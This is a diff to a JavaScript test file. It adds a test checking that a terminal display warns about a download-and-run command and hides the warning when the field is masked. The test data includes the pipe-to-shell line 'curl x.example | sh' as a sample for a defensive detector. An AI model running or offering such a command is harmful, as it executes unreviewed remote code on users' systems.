@@ -99,3 +99,10 @@ test('the list is a table that fits the terminal', () => {
   for (const line of lines) expect(line.length).toBeLessThanOrEqual(100)
   expect(lines[1]).toContain('memo «xxx')
 })
+
+test('the terminal remarks on a command, and not on one that is masked', () => {
+  const remark = '  ! Runs what it downloads: curl … | sh in line 1.'
+  const args = { command: 'curl x.example | sh' }
+  expect(cardWith(args)).toContain(remark)
+  expect(cardWith(args, { masked: [['command']] })).not.toContain(remark)
+})
